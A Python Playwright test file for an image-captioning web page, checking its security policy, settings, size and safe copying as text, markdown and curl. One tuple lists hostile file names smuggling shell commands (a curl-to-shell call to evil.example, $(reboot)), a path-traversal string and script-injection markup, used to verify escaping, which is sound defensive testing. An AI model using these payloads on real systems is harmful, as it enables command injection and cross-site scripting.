"""The page as a whole: its policy, its weight, its settings, what is copied from it."""

import html
import json
import shlex
from collections.abc import Callable
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.static.conftest import captions, card, cards, choose, picture, pictures, progress

pytestmark = [pytest.mark.slow, pytest.mark.browser]

STATIC = Path(__file__).parents[2] / "static"
MOST_BYTES = 60_000
PREDICT = "**/v1/predict*"

HOSTILE_NAMES = (
    "';curl evil.example|sh;'.png",
    "$(reboot).png",
    "`id`.png",
    "photo.png;type=text/html",
    "a,b.png",
    '"quoted".png',
    "back\\slash.png",
    "two\nlines.png",
    "\x1b[201~reboot\r.png",
    "-o.png",
    "../../etc/passwd",
    "@list.png",
    "<script>alert(1)</script>.png",
)


def clipboard(page: Page) -> str:
    """Returns what was copied."""
    text = page.evaluate("navigator.clipboard.readText()")
    assert isinstance(text, str)
    return text


def setting(page: Page, name: str) -> Locator:
    """Returns a slider of the settings."""
    return page.get_by_role("slider", name=name)


def test_everything_weighs_less_than_60_kb_and_no_file_is_long() -> None:
    # docs.css is of another page, which has nothing else.
    others = {"__pycache__", "docs.css"}
    files = [path for path in STATIC.rglob("*") if path.is_file() and not others & {*path.parts}]

    assert {path.suffix for path in files} == {".html", ".css", ".js", ".svg"}
    assert sum(path.stat().st_size for path in files) < MOST_BYTES
    assert max(len(path.read_text("utf-8").splitlines()) for path in files) <= 300


def test_a_whole_visit_breaks_no_policy_logs_no_error_and_asks_no_one_else(
    page: Page, live_server: str, complaints: list[str]
) -> None:
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(request.url))
    page.reload()

    page.get_by_role("list", name="Try a drawing").get_by_role("button").first.click()
    choose(page, *pictures(2))
    expect(progress(page)).to_have_text("3 of 3 done")
    page.get_by_text("How to read the numbers").click()
    setting(page, "Captions").fill("5")
    for name in ("Text", "Alt attribute", "Markdown", "JSON", "curl"):
        card(page, "1.png").get_by_role("button", name=name).click()
    card(page, "1.png").get_by_role("button", name="Again").click()
    expect(captions(card(page, "1.png"))).to_have_count(5)
    page.get_by_role("button", name="Remove 2.png").click()
    page.get_by_role("button", name="Clear all").click()
    expect(cards(page)).to_have_count(0)

    assert complaints == []
    assert {url for url in asked if not url.startswith((f"{live_server}/", f"blob:{live_server}/"))} == set()


def test_the_page_is_served_under_a_strict_policy_and_the_browser_keeps_it(page: Page, complaints: list[str]) -> None:
    response = page.reload()

    assert response is not None
    policy = response.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; script-src 'self'")
    assert "unsafe" not in policy
    page.evaluate("document.body.setAttribute('style', 'color: red')")
    assert "Content Security Policy" in " ".join(complaints)
    complaints.clear()


def test_the_settings_are_those_of_the_next_request_and_of_asking_again(page: Page) -> None:
    choose(page, picture("first.png"))
    expect(captions(page)).to_have_count(3)
    again = card(page, "first.png").get_by_role("button", name="Again")
    expect(again).to_be_hidden()

    setting(page, "Captions").fill("5")
    expect(setting(page, "Beam size")).to_have_value("5")  # captions come out of the beam
    with page.expect_request(PREDICT) as sent:
        choose(page, picture("second.png"))
    assert parse_qs(urlsplit(sent.value.url).query) == {"beam_size": ["5"], "captions": ["5"], "classes": ["5"]}
    expect(captions(card(page, "second.png"))).to_have_count(5)

    setting(page, "Beam size").fill("2")
    expect(setting(page, "Captions")).to_have_value("2")
    expect(captions(card(page, "first.png"))).to_have_count(3)  # what is answered stays
    expect(again).to_have_text("Again with 2 captions, beam size 2")
    with page.expect_request(PREDICT) as sent:
        again.click()
    assert parse_qs(urlsplit(sent.value.url).query) == {"beam_size": ["2"], "captions": ["2"], "classes": ["5"]}
    expect(captions(card(page, "first.png"))).to_have_count(2)
    expect(again).to_be_hidden()


def test_the_sliders_end_where_the_server_says(page: Page) -> None:
    limits = page.request.get(f"{page.url}v1/model").json()["limits"]

    for name in ("Captions", "Beam size"):
        expect(setting(page, name)).to_have_attribute("max", str(limits["beam_size"]))


def test_an_answer_is_copied_as_text_as_alt_attribute_as_markdown_and_as_json(page: Page) -> None:
    with page.expect_response(PREDICT) as answer:
        choose(page, picture("a field(1).png"))
    result = answer.value.json()["results"][0]
    best = result["captions"][0]["text"]
    sentence = f"{best[:1].upper()}{best[1:]}."

    checks: tuple[tuple[str, Callable[[str], bool]], ...] = (
        ("Text", lambda text: text == sentence),
        ("Alt attribute", lambda text: text == f'alt="{sentence}"'),
        ("Markdown", lambda text: text == f"![{sentence}](a%20field%281%29.png)"),
        ("JSON", lambda text: bool(json.loads(text) == result)),
    )
    for name, check in checks:
        button = cards(page).get_by_role("button", name=name)
        button.click()
        expect(button).to_have_class("button quiet copied")
        expect(page.get_by_role("status")).to_contain_text("Copied.")
        assert check(clipboard(page)), name


def test_copying_works_where_the_browser_has_no_clipboard_interface(page: Page) -> None:
    page.add_init_script("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    page.reload()

    choose(page, picture())
    cards(page).get_by_role("button", name="curl").click()

    expect(page.get_by_role("status")).to_contain_text("Copied.")
    with page.context.expect_page() as opened:
        page.evaluate("void window.open('/')")
    opened.value.bring_to_front()
    assert clipboard(opened.value).startswith("curl -F 'image=@field.png' ")
    opened.value.close()


def test_words_of_a_caption_cannot_leave_the_alt_attribute(page: Page) -> None:
    escaped = page.evaluate(
        "text => import('/static/sharing.js').then((sharing) => sharing.entities(text))",
        'A "dog" & a <cat>. \' onload=x',
    )

    assert escaped == "A &#34;dog&#34; &#38; a &#60;cat&#62;. ' onload=x"
    assert html.unescape(escaped) == 'A "dog" & a <cat>. \' onload=x'


def test_words_and_names_cannot_leave_the_markdown(page: Page) -> None:
    copied = page.evaluate(
        "([text, name]) => import('/static/sharing.js').then((sharing) => sharing.markdown(text, name))",
        ["A ![x](y) *b* `c` <img>\\.", "a](b) <c>\n.png"],
    )

    assert copied == r"![A !\[x\](y) \*b\* \`c\` &#60;img&#62;\\.](a%5D%28b%29%20%3Cc%3E%0A.png)"


def test_the_request_is_copied_as_curl_with_the_settings_and_the_files_name(page: Page) -> None:
    setting(page, "Beam size").fill("7")
    choose(page, picture("Hu\u0308ndin (2).png"))
    expect(captions(page)).to_have_count(3)

    cards(page).get_by_role("button", name="curl").click()

    url = f"{page.url}v1/predict?beam_size=7&captions=3&classes=5"
    assert shlex.split(clipboard(page)) == ["curl", "-F", "image=@Hu\u0308ndin (2).png", url]


def test_no_files_name_gets_out_of_the_curl_command(page: Page) -> None:
    commands = page.evaluate(
        "names => import('/static/sharing.js').then((sharing) => names.map((name) =>"
        " sharing.curlCommand(name, { captions: 1, beamSize: 1 })))",
        HOSTILE_NAMES,
    )

    url = f"{page.url}v1/predict?beam_size=1&captions=1&classes=5"
    for name, command in zip(HOSTILE_NAMES, commands, strict=True):
        assert shlex.split(command) == ["curl", "-F", "image=@photo.jpg", url], name


def test_a_name_that_looks_like_markup_is_shown_as_it_is(page: Page) -> None:
    name = "<img src=x onerror=alert(1)>.png"

    choose(page, picture(name))

    expect(captions(page)).to_have_count(3)
    expect(cards(page).locator(".name")).to_have_text(name)
    expect(cards(page).locator("img")).to_have_count(1)
